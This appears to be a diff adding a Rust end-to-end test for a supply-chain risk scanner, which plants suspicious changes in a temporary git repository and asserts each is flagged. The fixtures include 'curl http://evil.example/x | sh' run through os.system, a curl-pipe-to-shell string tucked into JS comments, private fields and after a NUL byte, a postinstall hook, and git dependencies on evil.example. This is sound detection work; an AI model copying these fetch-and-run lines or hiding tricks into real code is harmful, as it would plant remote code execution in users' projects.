@@ -477,3 +477,77 @@ fn bidi_and_invisible_characters_are_flagged() {
     // Benign: a BOM that opens the file, accents, and an emoji with its variation selector.
     assert!(scan("a.js", None, "\u{FEFF}const s = 'café ❤\u{FE0F}';\n").is_empty());
 }
+
+/// The reviewer's whole range, rebuilt as a real repository and read through chainlock-diff
+/// the way `chainlock diff risk` reads it: every planted change is flagged.
+#[test]
+fn reviewer_range_is_flagged_end_to_end() {
+    let repo = crate::util::Repo::new();
+    repo.write("index.js", "module.exports = 1;\n");
+    repo.write("priv.js", "class A {\n}\n");
+    repo.write("util.js", "module.exports = 2;\n// x\n");
+    repo.write("lat.py", b"# -*- coding: latin-1 -*-\nx = 1\n");
+    repo.write("cr.py", "a = 1\r# c\r\nb = 2\n");
+    repo.write(
+        "package.json",
+        "{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\"\n}\n",
+    );
+    repo.write("Cargo.toml", CARGO);
+    repo.commit("one");
+    repo.git(&["tag", "v1"]);
+    repo.write("index.js", format!("module.exports = 1;\n/**/ {CURL_SH}\n"));
+    repo.write(
+        "priv.js",
+        format!("class A {{\n  #p = {CURL_SH}\n}}\nnew A();\n"),
+    );
+    repo.write(
+        "util.js",
+        format!("module.exports = 2;\n// x\0\n{CURL_SH}\n"),
+    );
+    repo.write(
+        "lat.py",
+        b"# -*- coding: latin-1 -*-\n# caf\xe9\nx = 1\nimport os; os.system(\"curl http://evil.example/x | sh\")\n",
+    );
+    repo.write(
+        "cr.py",
+        "a = 1\r# c\r\nb = 2\nimport os; os.system(\"curl http://evil.example/x | sh\")\n",
+    );
+    repo.write("bin/cli", format!("#!/usr/bin/env node\n{CURL_SH}\n"));
+    repo.write(
+        "package.json",
+        "\u{feff}{\n  \"name\": \"demo\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\"postinstall\": \"node setup-hook.js\"},\n  \"dependencies\": {\"evil-pkg\": \"git+https://evil.example/e.git\"}\n}\n",
+    );
+    repo.write(
+        "Cargo.toml",
+        format!(
+            "{CARGO}\n[build-dependencies.evil-build]\ngit = \"https://evil.example/evil-build\"\n"
+        ),
+    );
+    repo.commit("two");
+    repo.git(&["tag", "v2"]);
+
+    let mut flags = Vec::new();
+    chainlock_diff::for_each_change(repo.path(), Some("v1"), "v2", |change| {
+        let path = String::from_utf8_lossy(change.path);
+        flags.extend(scan_change(&path, change.old, change.new));
+        Ok::<(), chainlock_diff::Error>(())
+    })
+    .expect("range");
+    let flagged = |file: &str, rule: Rule, line: u32| {
+        assert!(
+            flags
+                .iter()
+                .any(|f| f.file == file && f.rule == rule && f.line == Some(line)),
+            "{file}:{line} {rule} missing from {flags:#?}"
+        );
+    };
+    flagged("index.js", Rule::ProcessSpawn, 2);
+    flagged("priv.js", Rule::ProcessSpawn, 2);
+    flagged("util.js", Rule::ProcessSpawn, 3);
+    flagged("lat.py", Rule::ProcessSpawn, 4);
+    flagged("cr.py", Rule::ProcessSpawn, 4);
+    flagged("bin/cli", Rule::ProcessSpawn, 2);
+    flagged("package.json", Rule::InstallHook, 4);
+    flagged("package.json", Rule::DependencyChange, 5);
+    flagged("Cargo.toml", Rule::DependencyChange, 9);
+}
